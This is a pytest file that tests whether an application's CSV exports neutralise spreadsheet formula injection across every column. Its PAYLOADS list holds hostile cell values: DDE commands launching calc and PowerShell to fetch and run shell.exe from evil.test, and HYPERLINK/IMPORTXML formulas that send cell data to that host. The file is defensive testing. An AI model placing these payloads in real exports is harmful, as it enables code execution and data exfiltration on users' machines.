"""RELIABILITY F-12: no cell of a table that leaves the desk, or an export, is run by a spreadsheet."""

import csv
import io
from pathlib import Path

import pytest

from digests.evidence import write_evidence
from digests.sheet import harmless, write_sheet
from terms.company import Company
from tests.desks import enter, hurry, make_desk, make_person
from tests.houses import make_house, stock
from tests.make import company, item, need
from tests.recordings.digests.world import paper
from watch.desk_sheet import COLUMNS

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!'A1'", "=2+5+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.test/shell.exe)'!A0", "=         cmd|'/c calc.exe'!A", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "\0=1+1", "\ufeff=1+1", "\u200b@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '"=HYPERLINK(""https://evil.test?x=""&A1,""x"")', "'=IMPORTXML(CONCAT(\"https://evil.test\",A1),\"//a\")",
    'x";=cmd|\'/C calc\'!A0;"', "x;=1+1", "x\r\n=1+1;y", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def cells(table: bytes) -> list[list[str]]:
    """As Excel reads it: the mark of UTF-8, semicolons."""
    assert table.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_f_12_nothing_is_run_in_any_column(payload: str) -> None:
    """Every column, whatever stands in the others; nothing moves to another cell, and the text can be had back."""
    for place in range(4):
        row = [payload if n == place else f"cell {n}" for n in range(4)]
        _, read = cells(write_sheet(("a", "b", "c", "d"), [row]))
        assert len(read) == 4
        assert not any(cell.lstrip('\0\ufeff\u200b "').startswith(STARTS) for cell in read)
        told = "".join(read[place].removeprefix("'").split())
        assert told == "".join("".join(c for c in payload if c.isprintable() or c.isspace()).split())
        assert read[:place] == row[:place]
        assert read[place + 1 :] == row[place + 1 :]


def test_f_12_what_is_no_formula_stays() -> None:
    """Words, numbers, names and marks within them."""
    for cell in ("Tøtte ventiler – 700 bar", "0.83", "2026-11-23", "A-1 = B", "", "å@b.example", "'s-Hertogenbosch"):
        assert harmless(cell) == cell


def hostile() -> Company:
    """A company whose own texts are formulas."""
    return company(name="=1+1|cmd", needs=(need("valves", title="@SUM(1+1)"),))


def test_f_12_the_queue_as_a_table(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Titles are hostile; the table has a line for each that waits in the view, and no company of others."""
    hurry(monkeypatch)
    made = make_house(tmp_path, monkeypatch, hostile(), company("fjell"))
    stock(made, *(item(str(n), title=f"{payload} {n}") for n, payload in enumerate(PAYLOADS)))
    stock(made, item("foreign", title="Not theirs"), need_key="fjell/valves", no=2)
    make_person(made)
    answer = enter(make_desk(made)).get("/queue.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    head, *rows = cells(answer.content)
    assert tuple(head) == COLUMNS
    assert len(rows) == len(PAYLOADS)
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(STARTS)]
    assert {row[1] for row in rows} == {"'=1+1|cmd"}
    assert b"Not theirs" not in answer.content
    assert len(cells(enter(make_desk(made)).get("/queue.csv?company=fjell").content)) == 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_f_12_evidence_is_guarded_the_same_way(payload: str) -> None:
    """The export of the command line: every column that a source fills."""
    line = paper("P-1", payload, people=(payload,), organisations=(payload,), source_title=payload)
    (row,) = csv.DictReader(io.StringIO(write_evidence([line], "csv")))
    assert not [cell for cell in row.values() if cell.lstrip('\0\ufeff\u200b "').startswith(STARTS)]
